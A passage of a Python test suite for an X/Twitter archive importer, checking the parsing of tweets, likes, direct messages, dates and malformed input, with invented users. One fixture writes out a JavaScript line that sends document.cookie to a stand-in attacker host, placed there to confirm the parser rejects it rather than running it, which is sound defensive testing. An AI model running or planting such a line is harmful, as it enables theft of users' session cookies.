"""The X archive parser: real layout, zipped and extracted, and every kind of bad input.

Archives are written by the tests (``make_archive``) in the layout X ships: ``data/*.js`` files
holding ``window.YTD.<name>.part0 = [ … ]`` with pretty-printed JSON, ids as strings, legacy
dates. The people in them are invented.
"""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from consentry.errors import ImportDataError
from consentry.platform.quarantine import Rejection
from consentry.platform.report import ImportWarning
from consentry.platform.sources import JsonStream, JsonStreamError, Parsed, ParsedRecord
from consentry.platform.x_archive import parse_x_archive

OWNER = "1500000000000000001"
ACCOUNT = {
    "account": {
        "email": "camille@example.org",
        "createdVia": "web",
        "username": "camille_d",
        "accountId": OWNER,
        "createdAt": "2012-04-05T08:30:00.000Z",
        "accountDisplayName": "Camille D.",
    }
}


def ytd(name: str, items: list[Any], part: int = 0) -> str:
    """A data file as X writes it: a JS assignment of a pretty-printed JSON array."""
    return f"window.YTD.{name}.part{part} = " + json.dumps(items, indent=2, ensure_ascii=False)


def tweet(
    tweet_id: str,
    text: str,
    *,
    created_at: str = "Fri Sep 01 09:00:00 +0000 2023",
    wrapped: bool = True,
    **extra: Any,
) -> dict[str, Any]:
    body: dict[str, Any] = {
        "retweeted": False,
        "source": '<a href="https://mobile.twitter.com" rel="nofollow">Twitter Web App</a>',
        "entities": {"hashtags": [], "symbols": [], "user_mentions": [], "urls": []},
        "display_text_range": ["0", str(len(text))],
        "favorite_count": "0",
        "id_str": tweet_id,
        "truncated": False,
        "retweet_count": "0",
        "id": tweet_id,
        "created_at": created_at,
        "favorited": False,
        "full_text": text,
        "lang": "fr",
    }
    body.update(extra)
    return {"tweet": body} if wrapped else body


def mention(name: str, user_id: str) -> dict[str, Any]:
    return {
        "name": name.title(),
        "screen_name": name,
        "indices": ["0", "5"],
        "id_str": user_id,
        "id": user_id,
    }


def make_archive(
    tmp_path: Path,
    files: Mapping[str, str | bytes],
    *,
    layout: str = "folder",
    name: str = "archive",
) -> Path:
    """Write ``files`` (path → content) as a folder, a zip, or a zip with an enclosing folder."""
    if layout == "folder":
        root = tmp_path / name
        for rel, content in files.items():
            target = root / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                target.write_bytes(content)
            else:
                target.write_text(content, "utf-8")
        return root
    path = tmp_path / f"{name}.zip"
    prefix = "twitter-2024-01-15-1a2b3c/" if layout == "zip-nested" else ""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for rel, content in files.items():
            zf.writestr(prefix + rel, content)
    return path


def parse(path: Path) -> tuple[list[ParsedRecord], list[Rejection]]:
    items: list[Parsed] = list(parse_x_archive(path))
    records = [i for i in items if isinstance(i, ParsedRecord)]
    rejections = [i for i in items if isinstance(i, Rejection)]
    return records, rejections


def contents(records: list[ParsedRecord]) -> dict[str, dict[str, Any]]:
    return {r.record["id"]: r.record for r in records if r.kind == "content"}


def full_archive() -> dict[str, str | bytes]:
    tweets = [
        tweet("1697000000000000001", "Premier jour de rentrée &amp; déjà fatiguée &lt;3"),
        tweet(
            "1697000000000000002",
            "@bob_m merci pour le lien !",
            in_reply_to_status_id_str="1696999999999999999",
            in_reply_to_status_id="1696999999999999999",
            in_reply_to_user_id_str="1500000000000000002",
            in_reply_to_screen_name="bob_m",
            entities={
                "hashtags": [],
                "user_mentions": [mention("bob_m", "1500000000000000002")],
                "urls": [],
            },
        ),
        tweet(
            "1697000000000000003",
            "RT @lea_k: Le train de 8h12 est encore supprimé",
            entities={
                "hashtags": [],
                "user_mentions": [mention("lea_k", "1500000000000000003")],
                "urls": [],
            },
        ),
        tweet(
            "1697000000000000004",
            "Exactement ça https://t.co/abc",
            is_quote_status=True,
            entities={
                "hashtags": [],
                "user_mentions": [],
                "urls": [
                    {
                        "url": "https://t.co/abc",
                        "expanded_url": "https://twitter.com/lea_k/status/1696000000000000042",
                    }
                ],
            },
        ),
        tweet(
            "1697000000000000005",
            "Mon chat au soleil",
            created_at="Sat Sep 02 18:45:10 +0200 2023",
            lang="und",
            extended_entities={
                "media": [{"type": "photo", "ext_alt_text": "un chat roux sur un balcon"}]
            },
        ),
    ]
    likes = [
        {
            "like": {
                "tweetId": "1696000000000000042",
                "fullText": "Le train…",
                "expandedUrl": "https://twitter.com/i/web/status/1696000000000000042",
            }
        },
    ]
    dms = [
        {
            "dmConversation": {
                "conversationId": f"1500000000000000002-{OWNER}",
                "messages": [
                    {
                        "messageCreate": {
                            "reactions": [],
                            "urls": [],
                            "text": "on se voit jeudi ?",
                            "mediaUrls": [],
                            "senderId": OWNER,
                            "recipientId": "1500000000000000002",
                            "id": "1697100000000000001",
                            "createdAt": "2023-09-03T10:00:00.000Z",
                        }
                    },
                    {
                        "joinConversation": {
                            "initiatingUserId": OWNER,
                            "participantsSnapshot": [],
                            "createdAt": "2023-09-03T09:59:00.000Z",
                        }
                    },
                ],
            }
        }
    ]
    return {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": ytd("tweets", tweets),
        "data/like.js": ytd("like", likes),
        "data/direct-messages.js": ytd("direct_messages", dms),
        "data/tweets_media/1697000000000000005-abc.jpg": b"\xff\xd8\xff\xe0 not really a jpeg",
        "Your archive.html": "<html>…</html>",
    }


@pytest.mark.parametrize("layout", ["folder", "zip", "zip-nested"])
def test_archive_maps_to_canonical_records(tmp_path: Path, layout: str) -> None:
    records, rejections = parse(make_archive(tmp_path, full_archive(), layout=layout))
    assert rejections == []
    assert records[0].kind == "account"
    assert records[0].record == {
        "id": OWNER,
        "handle": "camille_d",
        "display_name": "Camille D.",
        "created_at": "2012-04-05T08:30:00Z",
        "country": None,
        "birth_date": None,
        "protected": False,
        "status": "active",
    }
    assert (
        records[0].file
        == ("twitter-2024-01-15-1a2b3c/" if layout == "zip-nested" else "") + "data/account.js"
    )
    kinds = [r.kind for r in records]
    assert kinds.count("account") == 1 and "decision" not in kinds  # an archive carries no consent

    items = contents(records)
    post = items["1697000000000000001"]
    assert post["kind"] == "post"
    assert post["text"] == "Premier jour de rentrée & déjà fatiguée <3"
    assert post["created_at"] == "2023-09-01T09:00:00Z"
    assert post["author_id"] == OWNER and post["visibility"] == "public" and post["lang"] == "fr"

    reply = items["1697000000000000002"]
    assert (reply["kind"], reply["in_reply_to"], reply["mentions"]) == (
        "reply",
        "1696999999999999999",
        ["bob_m"],
    )
    repost = items["1697000000000000003"]
    assert (repost["kind"], repost["repost_of"], repost["in_reply_to"]) == ("repost", None, None)
    assert repost["mentions"] == ["lea_k"]
    quote = items["1697000000000000004"]
    assert (quote["kind"], quote["quote_of"]) == ("quote", "1696000000000000042")
    photo = items["1697000000000000005"]
    assert photo["created_at"] == "2023-09-02T16:45:10Z"  # +0200 → UTC
    assert photo["lang"] is None  # "und" is X's "no language"
    assert photo["media"] == [{"type": "photo", "alt_text": "un chat roux sur un balcon"}]

    dm = items["1697100000000000001"]
    assert (dm["kind"], dm["visibility"], dm["author_id"]) == ("dm", "direct", OWNER)
    assert dm["conversation_id"] == f"1500000000000000002-{OWNER}"
    assert dm["created_at"] == "2023-09-03T10:00:00Z"
    assert len([r for r in records if r.record.get("kind") == "dm"]) == 1  # the join is no message

    (like,) = [r.record for r in records if r.kind == "interaction"]
    # The liked tweet's snowflake id says when it was written: the like cannot be earlier.
    assert like == {
        "account_id": OWNER,
        "content_id": "1696000000000000042",
        "kind": "like",
        "at": "2023-08-28T03:21:24.813000Z",
    }


def test_unwrapped_tweets_and_numeric_ids_of_older_archives(tmp_path: Path) -> None:
    old = tweet(
        "20", "just setting up my twttr", created_at="Tue Mar 21 20:50:14 +0000 2006", wrapped=False
    )
    old["id_str"] = None
    old["id"] = 20
    files = {"data/account.js": ytd("account", [ACCOUNT]), "data/tweet.js": ytd("tweet", [old])}
    records, rejections = parse(make_archive(tmp_path, files))
    assert rejections == []
    assert contents(records)["20"]["created_at"] == "2006-03-21T20:50:14Z"


def test_multi_part_tweet_files_are_all_read_in_part_order(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets-part2.js": ytd("tweets", [tweet("3", "trois")], part=2),
        "data/tweets.js": ytd("tweets", [tweet("1", "un")]),
        "data/tweets-part10.js": ytd("tweets", [tweet("4", "quatre")], part=10),
        "data/tweets-part1.js": ytd("tweets", [tweet("2", "deux")], part=1),
    }
    records, _ = parse(make_archive(tmp_path, files, layout="zip"))
    assert [r.record["id"] for r in records if r.kind == "content"] == ["1", "2", "3", "4"]


def test_protected_history_and_declared_birth_date_shape_the_account(tmp_path: Path) -> None:
    history = [
        {"protectedHistory": {"protectedAt": "2019-01-01T00:00:00.000Z", "action": "Protect"}},
        {"protectedHistory": {"protectedAt": "2021-06-01T00:00:00.000Z", "action": "Unprotect"}},
        {"protectedHistory": {"protectedAt": "2023-02-01T00:00:00.000Z", "action": "Protect"}},
    ]
    age = [
        {
            "ageMeta": {
                "ageInfo": {"age": ["34"], "birthDate": "1989-07-14"},
                "inferredAgeInfo": {"age": ["13-54"], "birthDate": ""},
            }
        }
    ]
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/protected-history.js": ytd("protected_history", history),
        "data/ageinfo.js": ytd("ageinfo", age),
        "data/tweets.js": ytd("tweets", [tweet("1", "entre nous")]),
    }
    records, rejections = parse(make_archive(tmp_path, files))
    assert rejections == []
    account = records[0].record
    assert (account["protected"], account["birth_date"]) == (True, "1989-07-14")
    assert contents(records)["1"]["visibility"] == "followers"


def test_inferred_age_is_not_a_birth_date(tmp_path: Path) -> None:
    age = [{"ageMeta": {"inferredAgeInfo": {"age": ["13-54"], "birthDate": "2001-01-01"}}}]
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/ageinfo.js": ytd("ageinfo", age),
    }
    records, _ = parse(make_archive(tmp_path, files))
    assert records[0].record["birth_date"] is None


def test_deleted_tweets_are_deleted_content(tmp_path: Path) -> None:
    gone = tweet("7", "je n'aurais pas dû", deleted_at="Sun Sep 10 12:00:00 +0000 2023")
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/deleted-tweets.js": ytd("deleted_tweets", [gone]),
    }
    records, _ = parse(make_archive(tmp_path, files))
    assert contents(records)["7"]["deleted_at"] == "2023-09-10T12:00:00Z"


def test_a_message_from_the_correspondent_is_authored_by_them(tmp_path: Path) -> None:
    dms = [
        {
            "dmConversation": {
                "conversationId": "c1",
                "messages": [
                    {
                        "messageCreate": {
                            "text": "oui jeudi",
                            "senderId": "1500000000000000002",
                            "recipientId": OWNER,
                            "id": "9",
                            "createdAt": "2023-09-03T10:05:00.000Z",
                        }
                    }
                ],
            }
        }
    ]
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/direct-messages-group.js": ytd("direct_messages_group", dms),
    }
    records, _ = parse(make_archive(tmp_path, files))
    assert contents(records)["9"]["author_id"] == "1500000000000000002"
    assert [r.kind for r in records].count("account") == 1  # no account is invented for them


# ---- legacy dates --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("legacy", "expected"),
    [
        ("Fri Sep 01 09:00:00 +0000 2023", "2023-09-01T09:00:00Z"),
        ("Mon Jan 01 00:30:00 +0100 2024", "2023-12-31T23:30:00Z"),
        ("Thu Feb 29 12:00:00 -0530 2024", "2024-02-29T17:30:00Z"),
    ],
)
def test_legacy_dates_become_rfc3339_utc(tmp_path: Path, legacy: str, expected: str) -> None:
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": ytd("tweets", [tweet("1", "x", created_at=legacy)]),
    }
    records, _ = parse(make_archive(tmp_path, files))
    assert contents(records)["1"]["created_at"] == expected


# ---- bad input, one by one -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "field", "reason"),
    [
        ({"created_at": "Fri Feb 30 09:00:00 +0000 2023"}, "tweet.created_at", "impossible date"),
        ({"created_at": "2023-09-01 09:00"}, "tweet.created_at", "not an X date"),
        ({"created_at": None}, "tweet.created_at", "missing"),
        ({"id_str": None, "id": None}, "tweet.id_str", "missing tweet id"),
        ({"full_text": 42}, "tweet.full_text", "not a string"),
        ({"full_text": "LONE_SURROGATE half a character"}, "tweet.full_text", "lone surrogate"),
    ],
)
def test_a_bad_tweet_is_rejected_with_its_field_and_line_and_the_others_kept(
    tmp_path: Path, change: dict[str, Any], field: str, reason: str
) -> None:
    bad = tweet("2", "mauvais")
    bad["tweet"].update(change)
    # A JSON escape of half a UTF-16 pair decodes to a string UTF-8 cannot hold.
    text = ytd("tweets", [tweet("1", "bon"), bad, tweet("3", "bon aussi")])
    text = text.replace("LONE_SURROGATE", "\\udc80")
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": text,
    }
    records, rejections = parse(make_archive(tmp_path, files, layout="zip"))
    assert sorted(contents(records)) == ["1", "3"]
    (rejection,) = rejections
    assert rejection.file == "data/tweets.js"
    assert (rejection.field, rejection.kind) == (field, "content")
    assert reason in rejection.reason
    assert rejection.line == text.splitlines().index("  {", text.splitlines().index("  {") + 1) + 1
    assert rejection.raw is not None
    assert json.loads(rejection.raw)["tweet"]["retweet_count"] == "0"  # the whole element


def test_invalid_utf8_rejects_only_the_tweet_that_holds_it(tmp_path: Path) -> None:
    text = ytd("tweets", [tweet("1", "bon"), tweet("2", "MARK"), tweet("3", "bon")])
    data = text.encode("utf-8").replace(b"MARK", b"caf\xe9")  # Latin-1 é
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": data,
    }
    records, rejections = parse(make_archive(tmp_path, files))
    assert sorted(contents(records)) == ["1", "3"]
    (rejection,) = rejections
    assert rejection.reason == "not valid UTF-8"


def test_broken_json_keeps_the_tweets_before_it(tmp_path: Path) -> None:
    text = ytd("tweets", [tweet("1", "bon"), tweet("2", "coupé")])
    cut = text[: text.index('"coupé"') + 3]
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": cut,
    }
    records, rejections = parse(make_archive(tmp_path, files))
    assert sorted(contents(records)) == ["1"]
    (rejection,) = rejections
    assert (
        "invalid JSON" in rejection.reason and "rest of this file was not read" in rejection.reason
    )
    assert rejection.line is not None and rejection.line > 1
    assert rejection.incomplete  # the import as a whole fails: the rest of the file is unread


def test_a_data_file_without_the_ytd_wrapper_is_rejected_not_executed(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": "fetch('https://evil.example/'+document.cookie); window.YTD = [];",
    }
    records, rejections = parse(make_archive(tmp_path, files))
    assert [r.kind for r in records] == ["account"]
    assert "no `window.YTD" in rejections[0].reason


def test_a_bad_like_and_a_bad_message_are_rejected_with_their_field(tmp_path: Path) -> None:
    likes = [{"like": {"fullText": "sans id"}}, {"like": {"tweetId": "1696000000000000042"}}]
    dms = [
        {
            "dmConversation": {
                "conversationId": "c",
                "messages": [
                    {
                        "messageCreate": {
                            "text": "a",
                            "senderId": OWNER,
                            "id": "5",
                            "createdAt": "2023-02-30T10:00:00Z",
                        }
                    }
                ],
            }
        }
    ]
    files: dict[str, str | bytes] = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/like.js": ytd("like", likes),
        "data/direct-messages.js": ytd("direct_messages", dms),
    }
    records, rejections = parse(make_archive(tmp_path, files))
    assert [r.kind for r in records] == ["account", "interaction"]
    assert [r.field for r in rejections] == [
        "like.tweetId",
        "dmConversation.messages[0].messageCreate.createdAt",
    ]


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p / "random.zip", "not an X archive (neither a zip file nor a folder)"),
        (lambda p: p / "empty", "not an X archive (no data/account.js"),
        (lambda p: p / "nodata.zip", "not an X archive (no data/account.js"),
        (lambda p: p / "noaccount", "account.js: missing"),
        (lambda p: p / "missing", "no such file or folder"),
    ],
)
def test_what_is_not_an_archive_is_a_clear_error_naming_the_path(
    tmp_path: Path, make: Any, message: str
) -> None:
    (tmp_path / "random.zip").write_bytes(bytes(range(256)) * 8)
    (tmp_path / "empty").mkdir()
    with zipfile.ZipFile(tmp_path / "nodata.zip", "w") as zf:
        zf.writestr("notes/readme.txt", "hello")
    (tmp_path / "noaccount" / "data").mkdir(parents=True)
    (tmp_path / "noaccount" / "data" / "tweets.js").write_text(ytd("tweets", []))
    path = make(tmp_path)
    with pytest.raises(ImportDataError) as info:
        parse_x_archive(path)
    assert str(path) in str(info.value)
    assert message in str(info.value)


def test_a_broken_account_file_is_a_clear_error(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {"data/account.js": 'window.YTD.account.part0 = [ {"account": '}
    with pytest.raises(ImportDataError, match=r"account\.js: line 1: invalid JSON"):
        parse_x_archive(make_archive(tmp_path, files))


# ---- the streaming JSON reader -------------------------------------------------------------------

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=5), children, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(elements=st.lists(json_values, max_size=8), chunk=st.integers(min_value=1, max_value=64))
def test_stream_reads_any_array_whatever_the_chunk_size(
    tmp_path_factory: pytest.TempPathFactory, elements: list[Any], chunk: int
) -> None:
    # Each element pretty-printed on its own lines, so the line each one starts on is known.
    pieces = [json.dumps(e, indent=1, ensure_ascii=False) for e in elements]
    text = "window.YTD.tweets.part0 = [\n" + ",\n".join(pieces) + "\n]"
    expected_lines = []
    line = 2
    for piece in pieces:
        expected_lines.append(line)
        line += piece.count("\n") + 1
    path = tmp_path_factory.mktemp("stream") / "t.js"
    path.write_text(text, "utf-8")
    with path.open("rb") as raw:
        stream = JsonStream(raw, chunk_size=chunk)
        assert stream.skip_prefix(re.compile(r"\s*window\.YTD\.\w+\.part\d+\s*=\s*"))
        got = list(stream.items())
        stream.end()
    assert [g.value for g in got] == elements
    assert [g.line for g in got] == expected_lines
    assert all(g.utf8_ok for g in got)


def test_stream_refuses_text_after_the_array(tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    path.write_text('[1, 2]\n;\nalert("x")')
    with path.open("rb") as raw:
        stream = JsonStream(raw, chunk_size=3)
        assert [i.value for i in stream.items()] == [1, 2]
        with pytest.raises(JsonStreamError) as info:
            stream.end()
    assert info.value.line == 3


# ---- into a workspace ----------------------------------------------------------------------------


def test_import_into_a_workspace_counts_add_up_and_a_second_run_changes_nothing(
    tmp_path: Path,
) -> None:
    from consentry.platform.quarantine import read_quarantine
    from consentry.platform.x_archive import import_x_archive
    from consentry.workspace import Workspace

    files = full_archive()
    received = {
        "dmConversation": {
            "conversationId": "c2",
            "messages": [
                {
                    "messageCreate": {
                        "text": "oui",
                        "senderId": "1500000000000000009",
                        "id": "8",
                        "createdAt": "2023-09-03T10:05:00.000Z",
                    }
                }
            ],
        }
    }
    files["data/direct-messages-group.js"] = ytd("direct_messages_group", [received])
    archive = make_archive(tmp_path, files, layout="zip")
    ws = Workspace.init(tmp_path / "ws")

    first = import_x_archive(ws, archive)
    total = first.total
    assert (total.read, total.imported, total.unchanged, total.rejected) == (9, 8, 0, 1)
    assert total.adds_up and first.committed
    # The correspondent's message: no account is invented for them, so the ingest refuses it.
    assert first.quarantine is not None
    (refused,) = read_quarantine(first.quarantine)
    assert (refused.field, refused.line) == ("author_id", 2)
    assert "unknown author '1500000000000000009'" in refused.reason

    again = import_x_archive(ws, archive).total
    assert (again.read, again.imported, again.unchanged, again.rejected) == (9, 0, 8, 1)

    strict = import_x_archive(ws, archive, strict=True)
    assert not strict.committed and strict.failed


def test_stream_gives_up_on_a_broken_element_without_reading_the_whole_file(
    tmp_path: Path,
) -> None:
    path = tmp_path / "t.json"
    path.write_text('[{"a": 1}, {"b": "never closed\n' + "x" * 100_000 + "\n]")
    with path.open("rb") as raw:
        stream = JsonStream(raw, chunk_size=1000, max_element=5000)
        items = stream.items()
        assert next(items).value == {"a": 1}
        with pytest.raises(JsonStreamError, match="over 5,000 characters") as info:
            next(items)
        assert raw.tell() < 20_000  # stopped early, not at the end of the file
    assert info.value.line == 1


# ---- through the command line --------------------------------------------------------------------


def run_cli(*args: str, code: int = 0) -> str:
    """``consentry ARGS…`` in-process; the exit code is asserted; returns stdout + stderr."""
    from typer.testing import CliRunner

    from consentry.cli.main import app

    result = CliRunner().invoke(app, list(args), env={"COLUMNS": "200"})
    assert result.exit_code == code, (args, result.output, result.exception)
    return result.output


def totals(output: str) -> tuple[int, ...]:
    """read, imported, unchanged, rejected from the report's ``total`` row."""
    (row,) = [line for line in output.splitlines() if line.strip("│ ").startswith("total")]
    return tuple(int(cell.replace(",", "")) for cell in row.split("│")[3:7])


@pytest.mark.parametrize(
    ("era", "rows", "tweets"),
    [("2019 on", 8, "data/tweets.js"), ("Grailbird", 4, "data/js/tweets/2013_01.js")],
)
def test_cli_imports_an_archive_and_explains_what_it_did(
    tmp_path: Path, era: str, rows: int, tweets: str
) -> None:
    from consentry.workspace import Workspace

    ws = Workspace.init(tmp_path / "ws")
    files = grailbird_archive() if era == "Grailbird" else full_archive()
    archive = make_archive(tmp_path, files, layout="zip")
    out = run_cli("import", "x-archive", str(archive), "--workspace", str(ws.root))
    assert totals(out) == (rows, rows, 0, 0)
    assert tweets in out
    again = run_cli("import", "x-archive", str(archive), "--workspace", str(ws.root))
    assert totals(again) == (rows, 0, rows, 0)


def test_cli_strict_imports_nothing_when_a_row_is_rejected(tmp_path: Path) -> None:
    from consentry.workspace import Workspace

    ws = Workspace.init(tmp_path / "ws")
    files = full_archive()
    bad = tweet("9", "date impossible", created_at="Fri Feb 30 09:00:00 +0000 2023")
    files["data/tweets-part1.js"] = ytd("tweets", [bad], part=1)
    archive = make_archive(tmp_path, files)
    out = run_cli("import", "x-archive", str(archive), "-w", str(ws.root), "--strict", code=8)
    assert "nothing was imported" in out
    quarantine = list((ws.root / "quarantine").glob("*.jsonl"))
    assert len(quarantine) == 1 and "tweet.created_at" in quarantine[0].read_text("utf-8")
    # Without --strict the same archive imports all but the bad tweet: nothing was kept before.
    assert totals(run_cli("import", "x-archive", str(archive), "-w", str(ws.root))) == (9, 8, 0, 1)


@pytest.mark.parametrize("name", ["random.zip", "empty"])
def test_cli_refuses_what_is_not_an_archive_naming_it(tmp_path: Path, name: str) -> None:
    from consentry.workspace import Workspace

    ws = Workspace.init(tmp_path / "ws")
    (tmp_path / "random.zip").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "empty").mkdir()
    out = run_cli("import", "x-archive", str(tmp_path / name), "-w", str(ws.root), code=8)
    assert "not an X archive" in out and name in out


@pytest.mark.parametrize("command", ["x-archive", "mastodon", "reddit"])
def test_cli_help_documents_each_importer_with_an_example(command: str) -> None:
    out = run_cli("import", command, "--help")
    assert f"consentry import {command}" in out and "--strict" in out and "--workspace" in out


# ---------------------------------------------------------------------------------------------
# What real archives showed: redacted account files, quotes without `is_quote_status`,
# pre-2019 (Grailbird) archives.


def _without_created_at(account_id: str) -> str:
    body = {k: v for k, v in ACCOUNT["account"].items() if k != "createdAt"}
    return ytd("account", [{"account": body | {"accountId": account_id}}])


def _warnings(path: Path) -> list[ImportWarning]:
    return [i for i in parse_x_archive(path) if isinstance(i, ImportWarning)]


def test_a_missing_creation_time_is_derived_from_a_snowflake_account_id(tmp_path: Path) -> None:
    files = full_archive() | {"data/account.js": _without_created_at(OWNER)}
    path = make_archive(tmp_path, files)
    records, rejections = parse(path)
    assert rejections == []
    # 1500000000000000001 >> 22 ms after X's epoch (1288834974657 ms).
    assert records[0].record["created_at"] == "2022-03-05T06:47:23.309000Z"
    assert len(contents(records)) == 6  # nothing else is lost
    (warning,) = _warnings(path)
    assert (warning.file, warning.field) == ("data/account.js", "account.createdAt")
    assert "missing; derived from the account id" in warning.reason


def test_an_old_account_id_takes_the_earliest_tweet_as_its_creation_time(tmp_path: Path) -> None:
    old_id = "14159265"  # before snowflakes (below 2^32): it carries no time
    tweets = [
        tweet("1697000000000000001", "plus tard", created_at="Fri Sep 01 09:00:00 +0000 2023"),
        tweet("20000001", "le premier", created_at="Tue Mar 03 10:00:00 +0000 2009"),
        tweet("9", "date impossible", created_at="Fri Feb 30 09:00:00 +0000 2023"),
    ]
    files = {
        "data/account.js": _without_created_at(old_id),
        "data/tweets.js": ytd("tweets", tweets),
    }
    path = make_archive(tmp_path, files)
    records, rejections = parse(path)
    assert records[0].record["created_at"] == "2009-03-03T10:00:00Z"
    assert [r.field for r in rejections] == ["tweet.created_at"]  # still rejected, once
    (warning,) = _warnings(path)
    assert "earliest tweet's time" in warning.reason and "2009-03-03T10:00:00Z" in warning.reason


def test_nothing_to_derive_a_creation_time_from_is_a_clear_error(tmp_path: Path) -> None:
    path = make_archive(tmp_path, {"data/account.js": _without_created_at("14159265")})
    with pytest.raises(
        ImportDataError, match=r"account\.js: line 2: account\.createdAt is missing"
    ):
        parse(path)


def test_the_import_report_says_the_creation_time_was_derived(tmp_path: Path) -> None:
    from consentry.workspace import Workspace

    ws = Workspace.init(tmp_path / "ws")
    files = full_archive() | {"data/account.js": _without_created_at(OWNER)}
    out = run_cli("import", "x-archive", str(make_archive(tmp_path, files)), "-w", str(ws.root))
    assert totals(out) == (8, 8, 0, 0)
    assert (
        "warning: data/account.js:2: account.createdAt: missing; derived from the account id"
        in (out)
    )


def _linking(tweet_id: str, text: str, short: str, expanded: str, **extra: Any) -> dict[str, Any]:
    urls = [{"url": short, "expanded_url": expanded, "display_url": expanded[8:30]}]
    entities = {"hashtags": [], "user_mentions": [], "urls": urls}
    return tweet(tweet_id, text, entities=entities, **extra)


@pytest.mark.parametrize(
    ("expanded", "quoted"),
    [
        ("https://twitter.com/lea_k/status/1696000000000000042", "1696000000000000042"),
        ("https://x.com/lea_k/status/1696000000000000042?s=20", "1696000000000000042"),
        ("https://mobile.twitter.com/lea_k/status/1696000000000000042", "1696000000000000042"),
        ("https://twitter.com/i/web/status/1696000000000000042", "1696000000000000042"),
        ("https://example.org/lea_k/status/1696000000000000042", None),  # not X
        ("https://x.com/lea_k", None),  # a profile, not a tweet
    ],
)
def test_a_quote_is_recognised_from_the_status_url_of_its_link(
    tmp_path: Path, expanded: str, quoted: str | None
) -> None:
    # As real archives write it: no is_quote_status, no quoted id, the quoter's t.co link.
    quote = _linking(
        "1697000000000000010", "Exactement https://t.co/q1", "https://t.co/q1", expanded
    )
    files = {"data/account.js": ytd("account", [ACCOUNT]), "data/tweets.js": ytd("tweets", [quote])}
    records, _ = parse(make_archive(tmp_path, files))
    item = contents(records)["1697000000000000010"]
    assert item["quote_of"] == quoted
    assert item["kind"] == ("quote" if quoted else "post")
    assert item["text"] == "Exactement https://t.co/q1"  # the quoter's words and link, no more


def test_a_status_url_that_is_not_in_the_text_or_a_retweets_is_no_quote(tmp_path: Path) -> None:
    status = "https://x.com/lea_k/status/1696000000000000042"
    elsewhere = _linking("1697000000000000011", "rien ici", "https://t.co/zz", status)
    retweet = _linking(
        "1697000000000000012", "RT @lea_k: vu https://t.co/q2", "https://t.co/q2", status
    )
    said_no = _linking(
        "1697000000000000013",
        "lien https://t.co/q3",
        "https://t.co/q3",
        status,
        is_quote_status=False,
    )
    reply = _linking(
        "1697000000000000014",
        "@lea_k oui https://t.co/q4",
        "https://t.co/q4",
        status,
        in_reply_to_status_id_str="1696000000000000001",
    )
    files = {
        "data/account.js": ytd("account", [ACCOUNT]),
        "data/tweets.js": ytd("tweets", [elsewhere, retweet, said_no, reply]),
    }
    items = contents(parse(make_archive(tmp_path, files))[0])
    assert [(i["kind"], i["quote_of"]) for i in items.values()] == [
        ("post", None),
        ("repost", None),  # the original's quote, not the reposter's
        ("post", None),
        ("reply", "1696000000000000042"),  # a reply that quotes stays a reply
    ]


def grailbird_archive(user: dict[str, Any] | None = None) -> dict[str, str | bytes]:
    """A pre-2019 archive, in the layout documented for it (the people are invented)."""

    def old(tweet_id: str, text: str, created_at: str, **extra: Any) -> dict[str, Any]:
        body = {
            "source": "web",
            "entities": {"user_mentions": [], "media": [], "hashtags": [], "urls": []},
            "geo": {},
            "id_str": tweet_id,
            "text": text,
            "id": int(tweet_id),
            "created_at": created_at,
            "user": {"name": "Camille D.", "screen_name": "camille_d", "id_str": "14159265"},
        }
        return body | extra

    january = [
        old("290000000000000002", "Deuxième &amp; dernier", "2013-01-31 22:10:33 +0000"),
        old(
            "290000000000000001",
            "RT @lea_k: le train encore",
            "2013-01-02 08:00:00 +0100",
            retweeted_status={"id_str": "280000000000000001", "text": "le train encore"},
        ),
    ]
    december = [old("20000001", "Bonjour Twitter", "2009-12-24 18:00:00 +0000")]
    details = user or {
        "screen_name": "camille_d",
        "full_name": "Camille D.",
        "id": "14159265",
        "created_at": "2009-03-07 17:44:39 +0000",
    }
    return {
        "data/js/user_details.js": "var user_details = " + json.dumps(details, indent=1),
        "data/js/tweet_index.js": "var tweet_index = []",
        "data/js/tweets/2013_01.js": "Grailbird.data.tweets_2013_01 = \n"
        + json.dumps(january, indent=1),
        "data/js/tweets/2009_12.js": "Grailbird.data.tweets_2009_12 =\n"
        + json.dumps(december, indent=1),
        "index.html": "<html>…</html>",
    }


@pytest.mark.parametrize("layout", ["folder", "zip", "zip-nested"])
def test_a_grailbird_archive_is_read_like_a_modern_one(tmp_path: Path, layout: str) -> None:
    records, rejections = parse(make_archive(tmp_path, grailbird_archive(), layout=layout))
    assert rejections == []
    assert records[0].record == {
        "id": "14159265",
        "handle": "camille_d",
